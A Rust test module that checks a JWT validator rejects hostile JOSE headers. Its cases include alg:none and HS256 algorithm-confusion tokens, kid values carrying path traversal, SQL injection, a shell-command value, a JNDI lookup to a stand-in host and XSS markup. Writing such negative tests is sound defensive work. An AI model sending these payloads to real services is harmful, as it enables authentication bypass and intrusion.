//! The JOSE header (RFC 7515 section 4, RFC 8725 sections 3.1, 3.10 and 3.11).

use serde_json::json;
use signalr_upstream_auth::RejectionKind as K;

use crate::entry::Entry;
use crate::expected::{PASS, rejected};
use crate::fixture::Fixture;

pub fn entries(fixture: &Fixture) -> Vec<Entry> {
    let mut entries = fixture.tokens(
        rejected(401, K::AlgorithmNotAllowed),
        &[
            ("alg: none, with no signature", |token| token.algorithm("none")),
            ("alg: none, with a good signature", |token| token.header("alg", "none")),
            ("alg: None", |token| token.header("alg", "None").signature([])),
            ("alg: NONE", |token| token.header("alg", "NONE").signature([])),
            ("alg: nOnE", |token| token.header("alg", "nOnE").signature([])),
            ("alg: none and a blank", |token| token.header("alg", "none ").signature([])),
            ("alg: empty", |token| token.header("alg", "")),
            ("alg: HS256 with the public key", |token| token.algorithm("HS256")),
            ("alg: HS384 with the public key", |token| token.algorithm("HS384")),
            ("alg: HS512 with the public key", |token| token.algorithm("HS512")),
            ("alg: RS384 in fact", |token| token.algorithm("RS384")),
            ("alg: RS512 in fact", |token| token.algorithm("RS512")),
            ("alg: PS256 in fact", |token| token.algorithm("PS256")),
            ("alg: PS384 in fact", |token| token.algorithm("PS384")),
            ("alg: PS512 in fact", |token| token.algorithm("PS512")),
            ("alg: ES256", |token| token.header("alg", "ES256").signature([0; 64])),
            ("alg: ES384", |token| token.header("alg", "ES384").signature([0; 96])),
            ("alg: ES512", |token| token.header("alg", "ES512").signature([0; 132])),
            ("alg: ES256K", |token| token.header("alg", "ES256K").signature([0; 64])),
            ("alg: EdDSA", |token| token.header("alg", "EdDSA").signature([0; 64])),
            ("alg: Ed25519", |token| token.header("alg", "Ed25519").signature([0; 64])),
            ("alg: RS1", |token| token.header("alg", "RS1")),
            ("alg: HS1", |token| token.header("alg", "HS1")),
            ("alg: dir", |token| token.header("alg", "dir")),
            ("alg: RSA1_5", |token| token.header("alg", "RSA1_5")),
            ("alg: RSA-OAEP", |token| token.header("alg", "RSA-OAEP")),
            ("alg: PBES2 with a huge count", |token| {
                token.header("alg", "PBES2-HS512+A256KW").header("p2c", 2_147_483_647)
            }),
            ("alg: ML-DSA-65", |token| token.header("alg", "ML-DSA-65")),
            ("alg: rs256", |token| token.header("alg", "rs256")),
            ("alg: Rs256", |token| token.header("alg", "Rs256")),
            ("alg: a blank behind", |token| token.header("alg", "RS256 ")),
            ("alg: a blank before", |token| token.header("alg", " RS256")),
            ("alg: a zero behind", |token| token.header("alg", "RS256\0")),
            ("alg: a list in a string", |token| token.header("alg", "RS256,none")),
            ("alg: RS2560", |token| token.header("alg", "RS2560")),
            ("alg: its URI", |token| token.header("alg", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256")),
            ("alg: very long", |token| token.header("alg", "R".repeat(9000))),
            ("alg: markup", |token| token.header("alg", "<script>alert(1)</script>")),
        ],
    );
    entries.extend(fixture.tokens(
        rejected(401, K::MalformedHeader),
        &[
            ("alg: missing", |token| token.without_header("alg")),
            ("alg: null", |token| token.header("alg", json!(null))),
            ("alg: a list", |token| token.header("alg", ["RS256"])),
            ("alg: an object", |token| token.header("alg", json!({"RS256": 1}))),
            ("alg: a number", |token| token.header("alg", 256)),
            ("alg: true", |token| token.header("alg", true)),
            ("alg: Alg instead", |token| token.without_header("alg").header("Alg", "RS256")),
            ("an empty header", |token| token.raw_header("{}")),
            ("kid: null", |token| token.header("kid", json!(null))),
            ("kid: a number", |token| token.header("kid", 1)),
            ("kid: a list", |token| token.header("kid", ["k"])),
            ("kid: an object", |token| token.header("kid", json!({"$ne": ""}))),
            ("kid: true", |token| token.header("kid", true)),
            ("kid: 257 bytes", |token| token.header("kid", "k".repeat(257))),
            ("kid: 8,000 bytes", |token| token.header("kid", "k".repeat(8000))),
            ("kid: 86 characters of three bytes", |token| token.header("kid", "\u{20ac}".repeat(86))),
            ("typ: null", |token| token.header("typ", json!(null))),
            ("typ: a list", |token| token.header("typ", ["JWT"])),
            ("typ: a number", |token| token.header("typ", 1)),
        ],
    ));
    entries.extend(fixture.tokens(
        rejected(401, K::MissingKeyId),
        &[
            ("kid: missing", |token| token.without_header("kid")),
            ("kid: empty", |token| token.header("kid", "")),
            ("kid: x5t alone", |token| token.without_header("kid").header("x5t", "k")),
            ("kid: KID instead", |token| token.without_header("kid").header("KID", "k")),
        ],
    ));
    // A name that no document has: one look at the provider, then the end.
    entries.extend(fixture.tokens(
        rejected(401, K::UnknownKey).fetching(1, 1),
        &[
            ("kid: unknown", |token| token.key_id("nobody-knows")),
            ("kid: of 256 bytes", |token| token.header("kid", "k".repeat(256))),
            ("kid: a path", |token| token.header("kid", "../../../../dev/null")),
            ("kid: an absolute path", |token| token.header("kid", "/etc/passwd")),
            ("kid: a URL", |token| token.header("kid", "https://evil.example/keys")),
            ("kid: SQL", |token| token.header("kid", "' UNION SELECT 'key' --")),
            ("kid: a command", |token| token.header("kid", "| sleep 10")),
            ("kid: a lookup", |token| token.header("kid", "${jndi:ldap://evil.example/a}")),
            ("kid: line breaks", |token| token.header("kid", "k\r\nSet-Cookie: a=b")),
            ("kid: a terminal sequence", |token| token.header("kid", "\u{1b}[31mred\u{1b}[0m")),
            ("kid: a zero byte", |token| token.header("kid", "\0")),
            ("kid: text that runs backwards", |token| token.header("kid", "\u{202e}k")),
            ("kid: a blank", |token| token.header("kid", " ")),
            ("kid: __proto__", |token| token.header("kid", "__proto__")),
            ("kid: a query", |token| token.header("kid", "k?x=1&y=2#z")),
            ("kid: markup", |token| token.header("kid", "<img src=x onerror=alert(1)>")),
        ],
    ));
    entries.extend(fixture.tokens(
        rejected(401, K::CriticalHeader),
        &[
            ("crit: exp", |token| token.header("crit", ["exp"])),
            ("crit: empty", |token| token.header("crit", json!([]))),
            ("crit: null", |token| token.header("crit", json!(null))),
            ("crit: a text", |token| token.header("crit", "exp")),
            ("crit: a name nobody knows", |token| token.header("crit", ["x"]).header("x", 1)),
            ("crit: b64", |token| token.header("crit", ["b64"]).header("b64", false)),
            ("crit: an empty name", |token| token.header("crit", [""])),
            ("crit: kid", |token| token.header("crit", ["kid"])),
            ("b64: false", |token| token.header("b64", false)),
            ("b64: true", |token| token.header("b64", true)),
            ("b64: a text", |token| token.header("b64", "false")),
            ("enc", |token| token.header("enc", "A256GCM")),
            ("zip: DEF", |token| token.header("zip", "DEF")),
            ("zip: nobody knows", |token| token.header("zip", "GZ")),
            ("zip: null", |token| token.header("zip", json!(null))),
        ],
    ));
    entries.extend(fixture.tokens(
        rejected(401, K::UnsupportedType),
        &[
            ("typ: empty", |token| token.header("typ", "")),
            ("typ: an ID token", |token| token.header("typ", "id+jwt")),
            ("typ: a logout token", |token| token.header("typ", "logout+jwt")),
            ("typ: a proof of possession", |token| token.header("typ", "dpop+jwt")),
            ("typ: a security event", |token| token.header("typ", "secevent+jwt")),
            ("typ: an introspection", |token| token.header("typ", "token-introspection+jwt")),
            ("typ: JWE", |token| token.header("typ", "JWE")),
            ("typ: JWS", |token| token.header("typ", "JWS")),
            ("typ: JOSE", |token| token.header("typ", "JOSE")),
            ("typ: JOSE+JSON", |token| token.header("typ", "JOSE+JSON")),
            ("typ: a blank behind", |token| token.header("typ", "JWT ")),
            ("typ: text/jwt", |token| token.header("typ", "text/jwt")),
            ("typ: application/ alone", |token| token.header("typ", "application/")),
            ("typ: application twice", |token| token.header("typ", "application/application/jwt")),
            ("typ: a parameter", |token| token.header("typ", "application/jwt;charset=utf-8")),
            ("typ: a proof-of-possession token of Entra", |token| token.header("typ", "pop")),
            ("typ: at-jwt", |token| token.header("typ", "at-jwt")),
        ],
    ));
    entries.extend(fixture.tokens(
        rejected(401, K::DuplicateMember),
        &[
            ("alg twice, the same", |token| token.duplicate_header("alg", "RS256")),
            ("alg twice, none last", |token| token.duplicate_header("alg", "none")),
            ("kid twice", |token| token.duplicate_header("kid", "k")),
            ("typ twice", |token| token.duplicate_header("typ", "JWT")),
            ("an unknown name twice", |token| token.duplicate_header("x", 1).duplicate_header("x", 2)),
            ("alg twice, once escaped", |token| token.raw_header(r#"{"alg":"RS256","kid":"k","\u0061lg":"none"}"#)),
            ("an empty name twice", |token| token.duplicate_header("", 1).duplicate_header("", 1)),
        ],
    ));
    entries.extend(fixture.tokens(
        PASS,
        &[
            ("typ: missing", |token| token.without_header("typ")),
            ("typ: jwt", |token| token.header("typ", "jwt")),
            ("typ: at+jwt", |token| token.header("typ", "at+jwt")),
            ("typ: AT+JWT", |token| token.header("typ", "AT+JWT")),
            ("typ: application/at+jwt", |token| token.header("typ", "application/at+jwt")),
            ("typ: Application/JWT", |token| token.header("typ", "Application/JWT")),
            ("a nonce that was signed", |token| token.header("nonce", "n")),
            ("an x5t of something else", |token| token.header("x5t", "AAAA")),
            ("no x5t", |token| token.without_header("x5t")),
            ("cty", |token| token.header("cty", "JWT")),
            ("an unknown member of every type", |token| token.header("x", json!([null, {"a": 1.5}]))),
            ("epk, apu and p2c, which mean nothing here", |token| {
                token.header("epk", json!({})).header("apu", 1).header("p2c", 1e9)
            }),
            ("alg last, behind blanks", |token| token.without_header("alg").header("alg", "RS256")),
        ],
    ));
    entries
}
